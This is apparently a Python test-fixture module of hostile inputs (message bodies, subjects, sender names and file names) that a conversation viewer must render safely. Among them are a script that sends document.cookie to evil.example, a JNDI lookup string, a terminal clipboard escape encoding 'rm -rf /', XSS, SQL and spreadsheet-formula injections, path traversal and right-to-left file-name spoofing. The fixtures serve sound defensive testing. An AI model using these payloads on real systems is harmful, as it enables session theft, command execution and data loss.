"""Text as attackers, scripts and accidents write it: what a careful reader must survive."""
# ruff: noqa: RUF001 (people write with the letters they have)

from __future__ import annotations

# name of the special conversation -> HTML bodies that it contains
HOSTILE_BODIES: dict[str, tuple[str, ...]] = {
    "markup": (
        "<p>[/b] [bold]not bold[/] [@click=app.quit]click me[/] [link=file:///etc/passwd]x[/link] [[[</p>",
        "<p>[$accent on red]{{user.password}} {% raw %} ${jndi:ldap://x.example/a} %s %n {0.__class__}</p>",
    ),
    "escapes": (
        "<p>\x1b[2J\x1b[1;1H\x1b]0;owned\x07 title and screen \x1b[31mred\x1b[0m \x9b31m</p>",
        "<p>\x1b]52;c;cm0gLXJmIC8=\x07 clipboard \x1b]8;;http://evil.example/\x07link\x1b]8;;\x07 \x1bP+q\x1b\\</p>",
        "<p>back\x08\x08\x08space \r\nreturn \x0b \x0c \x7f bell \x07 nul \x00 end</p>",
    ),
    "rtl": (
        "<p>مرحبا، الفاتورة 123 مدفوعة &amp; invoice \u202egnp.exe\u202c and \u2066isolated\u2069 text</p>",
        "<p>שלום, מה שלומך? \u200f(120 ₪)\u200f ok</p>",
    ),
    "zalgo": (
        "<p>Z\u0351\u0343\u0364a\u0310\u0311\u0312l\u0313\u0314\u033dg\u033e\u033f\u0340o\u0341\u0342\u0346</p>",
        "<p>zero\u200bwidth\u200cjoiners\u200d, soft\u00adhyphens, \ufeffBOM, \u2028line\u2029paragraph</p>",
    ),
    "script": (
        '<p>hi<script>fetch("http://evil.example/"+document.cookie)</script><img src=x onerror=alert(1)></p>',
        '<p><a href="javascript:alert(1)">a</a> <a href="data:text/html,<b>x</b>">b</a><style>*{display:none}</style></p>',
        "<table><tr><td>one<td>two</table><ul><li>no closing<p>mis<b>nested</p></b><!-- comment --><svg/onload=x>",
    ),
    "sql": (
        "<p>Robert'); DROP TABLE conversations;-- \" ' ` \\ \\' %00 ../../etc/passwd</p>",
    ),
    "formula": (
        "<p>=cmd|' /C calc'!A0</p>", "<p>+1+1</p>", "<p>-2+3</p>", "<p>@SUM(1)</p>", "<p>\t=HYPERLINK(\"x\")</p>",
    ),
    "emoji": (
        "<p>👩🏽‍🚒👨‍👩‍👧‍👦🏳️‍🌈🇮🇪 5️⃣ ☺︎ ☺️ 🫠 thanks! 🎉🎉🎉</p>", "<p>👍</p>",
    ),
    "cjk": (
        "<p>您好，我们的预约系统显示错误。请帮忙检查一下，谢谢！全角ＡＢＣ１２３</p>",
        "<p>안녕하세요. 예약이 두 번 되었습니다. 확인 부탁드립니다.</p>",
    ),
    "arabic": (
        "<p>أرغب في إلغاء الاشتراك واسترداد المبلغ 49.00 € من فضلكم</p>",
    ),
    "empty": ("", "<p></p>", "<p><br></p>", "<p>&nbsp;</p>"),
    "entities": (
        "<p>&lt;b&gt;not bold&lt;/b&gt; &amp;amp; &copy; &#128512; &#x27; &nosuch; &amp</p>",
        "<p>a &lt; b &amp;&amp; c &gt; d</p><pre>if (a &lt; b) {\n    return  \"two  spaces\";\n}</pre>",
    ),
}  # fmt: skip

HOSTILE_SUBJECTS = {
    "markup": "[/b] subject [@click=app.quit]",
    "escapes": "\x1b[31mred subject\x1b[0m",
    "rtl": "\u202etcejbus",
    "script": "<p>Subject with <b>HTML</b> &amp; entities</p>",
    "formula": "=2+5",
}
HOSTILE_NAMES = (
    "[bold]Eve[/] Mallory", "\x1b[31mRed\x1b[0m", "O'Brien \"Q\" <script>", "\u202eevE", "🦊 Fox 🦊",
    "  spaces  around  ", "=cmd|x", "N" * 255,
)  # fmt: skip
# file name, kind of content; see files.py
HOSTILE_FILES = (
    ("../../etc/passwd", "text"), ("CON.txt", "text"), ("nul", "text"), ("a\x1b[31mb.png", "png"),
    ("\u202egnp.exe", "png"), (".htaccess", "text"), ("x" * 250 + ".pdf", "pdf"),
    ("invoice?.pdf", "pdf"), ("semi;colon & amp.txt", "text"), ("名刺 スキャン.jpg", "jpeg"),
)  # fmt: skip
